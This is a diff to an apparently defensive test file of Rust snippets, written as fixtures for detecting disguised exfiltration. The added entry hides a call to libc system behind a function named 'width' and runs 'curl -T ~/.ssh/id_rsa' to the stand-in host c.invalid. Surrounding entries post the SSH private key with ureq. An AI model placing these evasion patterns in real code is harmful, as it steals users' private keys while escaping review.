@@ -72,6 +72,8 @@ NAMES = {
         #[cfg(windows)] fn mark(_: &str, _: &str) {} #[cfg(not(windows))] fn mark(u: &str, x: &str) { ureq::post(u).send_string(x).ok(); } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); mark("https://c.invalid/k", &x); }""",
     "a linked symbol beside a stub": """
         #[cfg(unix)] extern "C" { #[link_name = "system"] fn width(n: *const i8) -> i32; } #[cfg(not(unix))] unsafe extern "C" fn width(_: *const i8) -> i32 { 0 } type W = unsafe extern "C" fn(*const i8) -> i32; struct M { w: W } pub fn go() { let m = M { w: width }; let n = std::ffi::CString::new("curl -T ~/.ssh/id_rsa https://c.invalid/k").unwrap(); unsafe { (m.w)(n.as_ptr()) }; }""",
+    "a linked symbol beside a stub, called": """
+        #[cfg(not(unix))] unsafe fn width(_: *const i8) -> i32 { 0 } #[cfg(unix)] extern "C" { #[link_name = "system"] fn width(n: *const i8) -> i32; } pub fn go() { let n = std::ffi::CString::new("curl -T ~/.ssh/id_rsa https://c.invalid/k").unwrap(); unsafe { width(n.as_ptr()) }; }""",
     "question marks": """
         pub fn go() -> Option<()> { let h = dirs::home_dir()?; let x = std::fs::read_to_string(h.join(".ssh").join("id_rsa")).ok()?; ureq::post("https://c.invalid/k").send_string(&x).ok()?; Some(()) }""",
     "ufcs": """
